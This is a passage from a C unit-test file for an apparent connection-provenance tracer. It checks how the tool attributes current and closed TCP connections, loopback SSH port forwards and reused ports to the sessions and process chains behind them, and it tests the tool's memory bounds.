	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.0.1", 40000, 3 * SEC, 10 * SEC, &e), 1);
	CHECK_EQ_INT(e.pid, 20);
	CHECK(e.ino == 500 && e.since == 2 * SEC && e.until == 5 * SEC && !e.expired);
	CHECK_EQ_INT(e.dir, 'i');
	uint64_t t = 9 * SEC; /* after it closed: put within the hold */
	struct chan *c;
	struct proc *p = graph_hist_holder(g, &e, &t, &c);
	CHECK(p && p->pid == 20 && c && c->ino == 500 && t == 5 * SEC - 1);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.0.1", 40001, 3 * SEC, 10 * SEC, &e), -1);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 23, "10.250.0.1", 40000, 3 * SEC, 10 * SEC, &e), -1);
	CHECK_EQ_INT(hist_find(g, "10.250.0.9", 22, "10.250.0.1", 40000, 3 * SEC, 10 * SEC, &e), -1);
	/* closed longer than the window (60 s) ago */
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.0.1", 40000, 3 * SEC, 66 * SEC, &e), 0);
	CHECK(e.expired);
	graph_gc(g, 66 * SEC);
	CHECK_EQ_INT((int)graph_hist_count(g), 0);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.0.1", 40000, 3 * SEC, 66 * SEC, &e), -1);
	graph_stats(g, &st);
	CHECK(st.hist_added == 1 && st.hist_evicted_window == 1 && st.hist_evicted_cap == 0);
	graph_free(g);
}

/* an outbound connection is listed only with its local end from the kernel
 * (here set as a probe would); the same 4-tuple used twice: the one held at t */
static void test_hist_outbound_reuse(void)
{
	struct graph *g = mk_hist(0);
	struct graph_closed e;
	image(g, 30, 1, "/usr/bin/ssh", 1 * SEC);
	connect_tcp(g, 30, 3, 600, "10.250.0.3", 22, 2 * SEC);
	fdop(g, 30, HT_REC_CLOSE, 3, 0, 4 * SEC); /* local end never known */
	CHECK_EQ_INT((int)graph_hist_count(g), 0);
	for (int k = 0; k < 2; k++) {
		uint64_t at = (10 + 10 * (uint64_t)k) * SEC;
		connect_tcp(g, 30, 3, 601 + (uint64_t)k, "10.250.0.3", 22, at);
		struct chan *c = graph_chan(g, HT_CHAN_SOCK, 0, 601 + (uint64_t)k);
		struct ht_addr l;
		v4(&l, "10.250.0.2", 50000);
		gaddr_set(&c->local, &l);
		c->has_local = 1;
		fdop(g, 30, HT_REC_CLOSE, 3, 0, at + 5 * SEC);
	}
	CHECK_EQ_INT((int)graph_hist_count(g), 2);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 50000, "10.250.0.3", 22, 12 * SEC, 30 * SEC, &e), 1);
	CHECK(e.ino == 601 && e.dir == 'o' && e.pid == 30);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 50000, "10.250.0.3", 22, 22 * SEC, 30 * SEC, &e), 1);
	CHECK(e.ino == 602);
	/* at no time either was held: the newest */
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 50000, "10.250.0.3", 22, 29 * SEC, 30 * SEC, &e), 1);
	CHECK(e.ino == 602);
	graph_free(g);
}

/* the count cap: the oldest go first; memory within max_closed entries */
static void test_hist_bound(void)
{
	struct graph *g = mk_hist(4);
	struct graph_closed e;
	struct graph_stats st;
	image(g, 20, 1, "/usr/sbin/sshd", 1 * SEC);
	for (int i = 0; i < 6; i++) {
		accept_tcp(g, 20, 4, 700 + (uint64_t)i, "10.250.0.1", (uint16_t)(41000 + i), (2 + (uint64_t)i) * SEC);
		fdop(g, 20, HT_REC_CLOSE, 4, 0, (2 + (uint64_t)i) * SEC + 1000);
	}
	graph_stats(g, &st);
	CHECK_EQ_INT((int)graph_hist_count(g), 4);
	CHECK(st.hist_added == 6 && st.hist_evicted_cap == 2);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.0.1", 41000, 2 * SEC, 9 * SEC, &e), -1);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.0.1", 41001, 3 * SEC, 9 * SEC, &e), -1);
	for (int i = 2; i < 6; i++)
		CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.0.1", (uint16_t)(41000 + i), 3 * SEC,
				       9 * SEC, &e), 1);
	/* the ring and its buckets: within 4 entries' bytes and a header */
	CHECK(graph_hist_ent_bytes() <= 88);
	CHECK(st.hist_bytes > 0 && st.hist_bytes <= 4 * graph_hist_ent_bytes() + 64);
	graph_free(g);
	/* 100,000 closed connections: the index's memory */
	g = mk_hist(0);
	image(g, 20, 1, "/usr/sbin/sshd", 1 * SEC);
	for (int i = 0; i < 100000; i++) {
		accept_tcp(g, 20, 4, 10000 + (uint64_t)i, i & 1 ? "10.250.1.1" : "10.250.1.2",
			   (uint16_t)(1024 + i / 2), 2 * SEC + (uint64_t)i * 1000);
		fdop(g, 20, HT_REC_CLOSE, 4, 0, 2 * SEC + (uint64_t)i * 1000 + 500);
	}
	CHECK_EQ_INT((int)graph_hist_count(g), 100000);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.1.1", 1024 + 49999, 3 * SEC, 9 * SEC, &e), 1);
	graph_stats(g, &st);
	CHECK(st.hist_bytes <= (uint64_t)GRAPH_HIST_MAX * graph_hist_ent_bytes() + 64);
	printf("    closed-connection index: %zu bytes per entry, %.1f MB at GRAPH_HIST_MAX (%u)\n",
	       graph_hist_ent_bytes(), (double)GRAPH_HIST_MAX * graph_hist_ent_bytes() / 1e6, GRAPH_HIST_MAX);
	graph_free(g);
}

/* "who" for a connection that has closed (issue 12): h2 asks about the ssh
 * connection this host's ssh made and has closed — the answer is its holder
 * as of then, with what fed it (the session from 10.250.0.9), marked "past";
 * closed longer than history_window ago: refused, saying why */
static char *who_at(struct graph *g, const char *req, uint64_t now)
{
	static struct collector_stats st;
	struct query_ctx q = {.g = g, .hostname = "h1", .nl = -1, .stats = &st};
	return query_answer(&q, req, strlen(req), now);
}

static void test_who_closed(void)
{
	struct graph *g = mk_hist(0);
	image(g, 20, 1, "/usr/sbin/sshd", 1 * SEC);
	accept_tcp(g, 20, 4, 500, "10.250.0.9", 5000, 2 * SEC);
	birth(g, 21, 20, 3 * SEC);
	image(g, 21, 20, "/usr/bin/bash", 3 * SEC);
	birth(g, 22, 21, 4 * SEC);
	image(g, 22, 21, "/usr/bin/ssh", 4 * SEC);
	connect_tcp(g, 22, 3, 601, "10.250.0.3", 22, 5 * SEC);
	struct chan *c = graph_chan(g, HT_CHAN_SOCK, 0, 601);
	struct ht_addr l;
	v4(&l, "10.250.0.2", 50000);
	gaddr_set(&c->local, &l); /* (as the kernel's dump gives it) */
	c->has_local = 1;
	struct ht_record ex = R(HT_REC_EXIT, 8 * SEC);
	ok(g, 22, ex);
	const char *req = "{\"op\":\"who\",\"local\":\"10.250.0.2:50000\",\"remote\":\"10.250.0.3:22\","
			  "\"age_ms\":14000}";
	char *a = who_at(g, req, 20 * SEC);
	cJSON *j = cJSON_Parse(a);
	if (!cJSON_IsTrue(cJSON_GetObjectItem(j, "ok")))
		fprintf(stderr, "    %s\n", a);
	CHECK(cJSON_IsTrue(cJSON_GetObjectItem(j, "ok")));
	cJSON *past = cJSON_GetObjectItem(j, "past");
	CHECK_EQ_INT(cJSON_GetNumberValue(cJSON_GetObjectItem(past, "closed_ago_ms")), 12000);
	CHECK_EQ_INT(cJSON_GetNumberValue(cJSON_GetObjectItem(past, "as_of_ago_ms")), 14000);
	CHECK_EQ_INT(cJSON_GetNumberValue(cJSON_GetObjectItem(cJSON_GetObjectItem(j, "subject"), "pid")), 22);
	CHECK(strstr(a, "10.250.0.9:5000") != NULL); /* its origin, through its creators */
	/* met at bash's birth (3 s): the far host is asked as of 17 s ago */
	CHECK(strstr(a, "\"seen_ago_ms\":17000") != NULL);
	char s[512];
	chains_str(j, s, sizeof(s));
	CHECK(strstr(s, "ssh") != NULL);
	cJSON_Delete(j);
	free(a);
	/* an age past the window is clamped (to 60 s ago), and into the hold:
	 * as of its connect, 25 s ago */
	req = "{\"op\":\"who\",\"local\":\"10.250.0.2:50000\",\"remote\":\"10.250.0.3:22\","
	      "\"age_ms\":86400000}";
	a = who_at(g, req, 30 * SEC);
	CHECK(a && strstr(a, "\"ok\":true") && strstr(a, "\"as_of_ago_ms\":25000"));
	free(a);
	/* another 4-tuple: nothing */
	a = who_at(g, "{\"op\":\"who\",\"local\":\"10.250.0.2:50001\",\"remote\":\"10.250.0.3:22\"}",
		   20 * SEC);
	CHECK(a && strstr(a, "\"code\":\"no_conn\"") &&
	      strstr(a, "no such connection, open or closed within history_window (60 s)"));
	free(a);
	/* closed 72 s ago, window 60 s: not followed, and why */
	a = who_at(g, "{\"op\":\"who\",\"local\":\"10.250.0.2:50000\",\"remote\":\"10.250.0.3:22\"}",
		   80 * SEC);
	if (!a || !strstr(a, "connection closed 72 s ago: beyond history_window (60 s)"))
		fprintf(stderr, "    %s\n", a ? a : "(null)");
	CHECK(a && strstr(a, "connection closed 72 s ago: beyond history_window (60 s)"));
	free(a);
	graph_free(g);
}

/* ---- closed local channels (issue 12, "Locally too") ------------------------
 * A forward's client that connected over loopback, sent and left before the
 * forward's accept was applied or probed: its socket's 4-tuple comes from
 * the kernel's connect events (kept after the close), and the forward's
 * accepted end is linked with it, so the client — and its session — stay a
 * source of the forward, within the window, under the hub rules. */

/* a kernel TCP state change of socket ino of pid, 127.0.0.1:lport ->
 * 127.0.0.1:rport (lport 0: not bound yet) */
static void kev_lo(struct graph *g, pid_t pid, uint64_t ino, uint16_t lport, uint16_t rport,
		   int oldst, int newst, uint64_t ts)
{
	static const uint8_t lo[4] = {127, 0, 0, 1};
	struct graph_kev_sock s = {pid, ino, ts, AF_INET, lport, rport, (uint8_t)oldst, (uint8_t)newst,
				   lo, lo, 0, 0, newst == 4 || newst == 9}; /* (a close(), not a shutdown()) */
	graph_kev_tcp(g, &s, ts);
}

/* the forward (ssh -L 9200, pid 40) accepts on fd 6 the loopback connection
 * from 127.0.0.1:cport as socket ino */
static void fwd_accept(struct graph *g, pid_t pid, int fd, uint64_t ino, uint16_t cport, uint64_t ts)
{
	struct ht_record a = R(HT_REC_ACCEPT, ts);
	a.fd = fd;
	a.chan = (struct ht_chan){HT_CHAN_SOCK, 0, ino};
	a.chan2 = (struct ht_chan){HT_CHAN_SOCK, 0, 8999};
	a.num = 1;
	v4(&a.addr, "127.0.0.1", 9200);
	v4(&a.addr2, "127.0.0.1", cport);
	ok(g, pid, a);
}

/* a short-lived client in the session (sshd base, bash base + 1): nc (base
 * + 2) connects to 127.0.0.1:9200 from cport (socket ino), sends, closes
 * and exits by ts + 20 ms; kev_first: the kernel's events are read before
 * its records, else after */
static void short_client(struct graph *g, pid_t base, uint64_t ino, uint16_t cport, uint64_t ts,
			 int kev_first)
{
	pid_t nc = base + 2;
	birth(g, nc, base + 1, ts);
	image(g, nc, base + 1, "/usr/bin/nc", ts + 1);
	if (kev_first) {
		kev_lo(g, nc, ino, 0, 9200, 7, 2, ts + 2);
		kev_lo(g, nc, ino, cport, 9200, 2, 1, ts + 3);
		kev_lo(g, nc, ino, cport, 9200, 1, 4, ts + 10000000);
	}
	connect_tcp(g, nc, 3, ino, "127.0.0.1", 9200, ts + 2);
	fdop(g, nc, HT_REC_CLOSE, 3, 0, ts + 10000000);
	struct ht_record ex = R(HT_REC_EXIT, ts + 20000000);
	ok(g, nc, ex);
	if (!kev_first) {
		kev_lo(g, nc, ino, 0, 9200, 7, 2, ts + 2);
		kev_lo(g, nc, ino, cport, 9200, 2, 1, ts + 3);
		kev_lo(g, nc, ino, cport, 9200, 1, 4, ts + 10000000);
	}
}

/* the forward's accepted connection is still open (half-closed: CLOSE_WAIT)
 * when the chain of its onward connection is asked; the client is gone */
static void test_local_closed_client(void)
{
	struct graph *g = mk(600, 1000);
	graph_kev_on(g, 1);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	image(g, 40, 1, "/usr/bin/ssh", 1 * SEC);
	connect_tcp(g, 40, 3, 900, "198.51.100.3", 22, 1 * SEC + 1); /* to h3 */
	session(g, 50, "10.250.0.5", 510, 5, 2 * SEC);
	short_client(g, 50, 801, 41000, 3 * SEC, 1);
	/* accepted after the client left (its records were applied first) */
	fwd_accept(g, 40, 6, 802, 41000, 3 * SEC + 30000000);
	CHECK_CHAINS(g, 40, 900, 5 * SEC, "10.250.0.5:sshd,sshd,bash,nc,ssh");
	/* another loopback client, of another port, accepted by someone else:
	 * not the forward's source */
	image(g, 60, 1, "/usr/bin/other", 1 * SEC);
	session(g, 70, "10.250.0.7", 520, 6, 6 * SEC);
	short_client(g, 70, 811, 41001, 7 * SEC, 1);
	fwd_accept(g, 60, 4, 812, 41001, 7 * SEC + 30000000);
	CHECK_CHAINS(g, 40, 900, 8 * SEC, "10.250.0.5:sshd,sshd,bash,nc,ssh");
	CHECK_CHAINS(g, 60, 0, 8 * SEC, "10.250.0.7:sshd,sshd,bash,nc,other");
	struct graph_stats st;
	graph_stats(g, &st);
	CHECK_EQ_INT((int)st.local_tcp_linked, 2);
	graph_free(g);
}

/* a client's 4-tuple used again (its port reused): the forward's second
 * accept is linked with the second client, the newest the events name */
static void test_local_closed_client_reused_port(void)
{
	struct graph *g = mk(600, 1000);
	graph_kev_on(g, 1);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	image(g, 40, 1, "/usr/bin/ssh", 1 * SEC);
	connect_tcp(g, 40, 3, 900, "198.51.100.3", 22, 1 * SEC + 1);
	session(g, 50, "10.250.0.5", 510, 5, 2 * SEC);
	short_client(g, 50, 801, 41000, 3 * SEC, 1);
	fwd_accept(g, 40, 6, 802, 41000, 3 * SEC + 30000000);
	fdop(g, 40, HT_REC_CLOSE, 6, 0, 3 * SEC + 40000000);
	session(g, 70, "10.250.0.7", 520, 6, 4 * SEC);
	short_client(g, 70, 803, 41000, 5 * SEC, 1);
	fwd_accept(g, 40, 6, 804, 41000, 5 * SEC + 30000000);
	CHECK_CHAINS(g, 40, 900, 6 * SEC,
		     "10.250.0.5:sshd,sshd,bash,nc,ssh | 10.250.0.7:sshd,sshd,bash,nc,ssh");
	CHECK(graph_chan(g, HT_CHAN_SOCK, 0, 804)->peer == graph_chan(g, HT_CHAN_SOCK, 0, 803));
	graph_free(g);
}

/* the client's connect events evicted before the forward accepts (a
 * socket whose inode falls in the client's slot, ino % 4096, connect()s to
 * a closed port: its SYN_SENT takes the slot) — the link comes from the
 * graph's own closed connections (attack_review_hist_evict) */
static void test_local_closed_client_evicted(void)
{
	struct graph *g = mk(600, 1000);
	graph_kev_on(g, 1);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	image(g, 40, 1, "/usr/bin/ssh", 1 * SEC);
	connect_tcp(g, 40, 3, 900, "198.51.100.3", 22, 1 * SEC + 1);
	session(g, 50, "10.250.0.5", 510, 5, 2 * SEC);
	short_client(g, 50, 801, 41000, 3 * SEC, 1);
	kev_lo(g, 51, 801 + 4096, 0, 1, 7, 2, 3 * SEC + 25000000);
	kev_lo(g, 51, 801 + 4096, 0, 1, 2, 7, 3 * SEC + 25000001);
	fwd_accept(g, 40, 6, 802, 41000, 4 * SEC);
	CHECK_CHAINS(g, 40, 900, 5 * SEC, "10.250.0.5:sshd,sshd,bash,nc,ssh");
	graph_free(g);
}

/* an accepted loopback connection whose client nothing names (the events'
 * slot taken and the client's only hold an unconfirmed claim, or the events
 * off): an unknown local process fed the forward — holders_incomplete, not
 * a complete chain without it (attack_review_hist_evict) */
static void test_local_unknown_client(void)
{
	struct graph *g = mk(600, 1000);
	graph_kev_on(g, 1);
	image(g, 40, 1, "/usr/bin/ssh", 1 * SEC);
	connect_tcp(g, 40, 3, 900, "198.51.100.3", 22, 1 * SEC + 1);
	fwd_accept(g, 40, 6, 802, 41000, 4 * SEC);
	cJSON *a = chain_of(g, 40, 900, 5 * SEC);
	CHECK(a && cJSON_IsTrue(cJSON_GetObjectItem(a, "holders_incomplete")));
	cJSON_Delete(a);
	graph_free(g);
}

/* "who" for a closed connection that `ssh -f` made: its parent half
 * connected, daemon() forked, the parent left; the daemon held it to its
 * close and fed it the forward's client — the answer is the daemon's, with
 * both origins (the session it was started from, the client's) */
static void test_who_closed_daemon(void)
{
	struct graph *g = mk_hist(0);
	graph_kev_on(g, 1);
	image(g, 20, 1, "/usr/sbin/sshd", 1 * SEC);
	accept_tcp(g, 20, 4, 500, "10.250.0.9", 5000, 2 * SEC);
	birth(g, 21, 20, 3 * SEC);
	image(g, 21, 20, "/usr/bin/bash", 3 * SEC);
	birth(g, 22, 21, 4 * SEC);
	image(g, 22, 21, "/usr/bin/ssh", 4 * SEC);
	connect_tcp(g, 22, 3, 601, "10.250.0.3", 22, 5 * SEC);
	struct chan *c = graph_chan(g, HT_CHAN_SOCK, 0, 601);
	struct ht_addr l;
	v4(&l, "10.250.0.2", 50000);
	gaddr_set(&c->local, &l);
	c->has_local = 1;
	birth(g, 23, 22, 6 * SEC); /* daemon()'s child: fd 3 inherited */
	image(g, 10, 1, "/usr/sbin/sshd", 6 * SEC);
	struct ht_record ex = R(HT_REC_EXIT, 6 * SEC + 1);
	ok(g, 22, ex);
	session(g, 50, "10.250.0.5", 510, 5, 7 * SEC);
	short_client(g, 50, 801, 41000, 8 * SEC, 1);
	fwd_accept(g, 23, 6, 802, 41000, 8 * SEC + 30000000);
	fdop(g, 23, HT_REC_CLOSE, 6, 0, 9 * SEC);
	fdop(g, 23, HT_REC_CLOSE, 3, 0, 9 * SEC + 1);
	const char *req = "{\"op\":\"who\",\"local\":\"10.250.0.2:50000\",\"remote\":\"10.250.0.3:22\","
			  "\"age_ms\":3000}";
	char *a = who_at(g, req, 12 * SEC);
	cJSON *j = cJSON_Parse(a);
	CHECK(cJSON_IsTrue(cJSON_GetObjectItem(j, "ok")));
	CHECK_EQ_INT(cJSON_GetNumberValue(cJSON_GetObjectItem(cJSON_GetObjectItem(j, "subject"), "pid")), 23);
	char s[1024];
	chains_str(j, s, sizeof(s));
	CHECK_EQ_STR(s, "10.250.0.5:sshd,sshd,bash,nc,ssh | 10.250.0.9:sshd,bash,ssh,ssh");
	cJSON_Delete(j);
	free(a);
	graph_free(g);
}

/* A 4-tuple used again: 22's connection 127.0.0.1:C -> 127.0.0.1:S closed
 * (history), then 30's connection of the same 4-tuple (a real loopback one
 * here, so the kernel has it live). A who as of when 22 held it (age_ms)
 * answers 22's, from the past — not the live socket's holder (review of
 * issue 12, op_who). Without age_ms, or as of 30's time: 30. */
static void test_who_reused_tuple(void)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t sl = sizeof(sa);
	int ls = socket(AF_INET, SOCK_STREAM, 0), cs = socket(AF_INET, SOCK_STREAM, 0);
	int nl = sd_open();
	CHECK(ls >= 0 && cs >= 0 && nl >= 0);
	CHECK(bind(ls, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(ls, 1) == 0);
	CHECK(getsockname(ls, (struct sockaddr *)&sa, &sl) == 0);
	CHECK(connect(cs, (struct sockaddr *)&sa, sizeof(sa)) == 0);
	struct sockaddr_in ca;
	sl = sizeof(ca);
	CHECK(getsockname(cs, (struct sockaddr *)&ca, &sl) == 0);
	uint16_t sport = ntohs(sa.sin_port), cport = ntohs(ca.sin_port);
	struct graph *g = mk_hist(0);
	struct ht_addr l;
	v4(&l, "127.0.0.1", cport);
	image(g, 22, 1, "/usr/bin/ssh", 1 * SEC);
	connect_tcp(g, 22, 3, 601, "127.0.0.1", sport, 5 * SEC);
	struct chan *c = graph_chan(g, HT_CHAN_SOCK, 0, 601);
	gaddr_set(&c->local, &l);
	c->has_local = 1;
	ok(g, 22, R(HT_REC_EXIT, 8 * SEC));
	image(g, 30, 1, "/usr/bin/nc", 19 * SEC);
	connect_tcp(g, 30, 3, sock_ino(cs), "127.0.0.1", sport, 20 * SEC);
	c = graph_chan(g, HT_CHAN_SOCK, 0, sock_ino(cs));
	gaddr_set(&c->local, &l);
	c->has_local = 1;
	static struct collector_stats st;
	struct query_ctx q = {.g = g, .hostname = "h1", .nl = nl, .stats = &st};
	char req[256];
	pid_t want[3] = {22, 30, 30};
	const char *age[3] = {",\"age_ms\":18000", ",\"age_ms\":2000", ""};
	for (int i = 0; i < 3; i++) {
		snprintf(req, sizeof(req),
			 "{\"op\":\"who\",\"local\":\"127.0.0.1:%u\",\"remote\":\"127.0.0.1:%u\"%s}",
			 cport, sport, age[i]);
		char *a = query_answer(&q, req, strlen(req), 25 * SEC);
		cJSON *j = cJSON_Parse(a);
		cJSON *pid = cJSON_GetObjectItem(cJSON_GetObjectItem(j, "subject"), "pid");
		if (!pid || (pid_t)cJSON_GetNumberValue(pid) != want[i])
			fprintf(stderr, "    %s: %.300s\n", age[i], a ? a : "(null)");
		CHECK_EQ_INT(pid ? (long long)cJSON_GetNumberValue(pid) : -1, want[i]);
		CHECK_EQ_INT(cJSON_GetObjectItem(j, "past") != NULL, i == 0);
		cJSON_Delete(j);
		free(a);
	}
	graph_free(g);
	close(nl);
	close(cs);
	close(ls);
}

/* the forward has closed its accepted connection too (the chain is asked
 * later, as an inquiry about the past would): the client counts through the
 * forward's history, within the window; the kernel's events read after the
 * records; the forward a hub (two clients accepted) — as the subject its
 * history counts; past the window it does not */
static void test_local_closed_client_history(void)
{
	struct graph *g = mk(600, 1000);
	graph_kev_on(g, 1);
	image(g, 10, 1, "/usr/sbin/sshd", 1 * SEC);
	image(g, 40, 1, "/usr/bin/ssh", 1 * SEC);
	connect_tcp(g, 40, 3, 900, "198.51.100.3", 22, 1 * SEC + 1);
	session(g, 50, "10.250.0.5", 510, 5, 2 * SEC);
	short_client(g, 50, 801, 41000, 3 * SEC, 0);
	fwd_accept(g, 40, 6, 802, 41000, 3 * SEC + 1000);
	fdop(g, 40, HT_REC_CLOSE, 6, 0, 3 * SEC + 50000000);
	CHECK_CHAINS(g, 40, 900, 10 * SEC, "10.250.0.5:sshd,sshd,bash,nc,ssh");
	/* a second client, nobody's (no session, so no origin of its own): the
	 * forward is a hub now */
	image(g, 80, 1, "/usr/bin/curl", 11 * SEC);
	kev_lo(g, 80, 821, 0, 9200, 7, 2, 11 * SEC + 1);
	kev_lo(g, 80, 821, 41005, 9200, 2, 1, 11 * SEC + 2);
	connect_tcp(g, 80, 3, 821, "127.0.0.1", 9200, 11 * SEC + 1);
	fwd_accept(g, 40, 6, 822, 41005, 11 * SEC + 1000);
	CHECK_CHAINS(g, 40, 900, 12 * SEC, "10.250.0.5:sshd,sshd,bash,nc,ssh");
	/* 61 s after the first client's connection closed: no longer a source */
	fdop(g, 40, HT_REC_CLOSE, 6, 0, 12 * SEC);
	CHECK_CHAINS(g, 40, 900, 65 * SEC, "h2:ssh");
	graph_free(g);
}

T_MAIN("graph", T(test_ssh_then_ssh), T(test_reflatten_upstream), T(test_pipe_relay), T(test_tmux_reattach),
       T(test_no_spurious_origin), T(test_daemonised_after_session),
       T(test_creator_ended_before_birth_seen), T(test_hub_children_not_sources),
       T(test_same_end_not_sources), T(test_recent_history), T(test_departed_feeder),
       T(test_creator_history), T(test_creator_reads_child), T(test_creator_history_limits),
       T(test_reads_child_live), T(test_writer_before_reader), T(test_hub_child_departed), T(test_record_socket_unaccepted),
       T(test_direct_path_first),
       T(test_local_origin), T(test_local_origin_feeders), T(test_local_origin_feeder_once), T(test_pid_reuse), T(test_exec_after_image), T(test_retention_and_bounds),
       T(test_forged_creator_contradiction), T(test_records_older_than_proc_read), T(test_resync_skips_doorbell), T(test_ghost_fd_inherited), T(test_pipe_decoys_known), T(test_pipe_holder_after_search), T(test_pipe_push_confirm), T(test_dark_connection), T(test_dark_evicted), T(test_kev_exec_unsure), T(test_who_reused_tuple), T(test_probe_keeps_tcp_peers), T(test_reconnect_after_failure),
       T(test_pty_purge_trim_uaf), T(test_pty_reuse_backdated_master), T(test_pty_reuse_late_end), T(test_zombie_child_inherits), T(test_creator_closed_after_fork), T(test_sweep_before_records), T(test_exit_past_files), T(test_pty_purge_found_gone), T(test_many_fds),
       T(test_memory_per_10k), T(test_hist_closed_lookup), T(test_hist_outbound_reuse), T(test_hist_bound), T(test_who_closed), T(test_local_closed_client), T(test_local_closed_client_reused_port), T(test_local_closed_client_evicted), T(test_local_unknown_client), T(test_who_closed_daemon),
       T(test_local_closed_client_history))
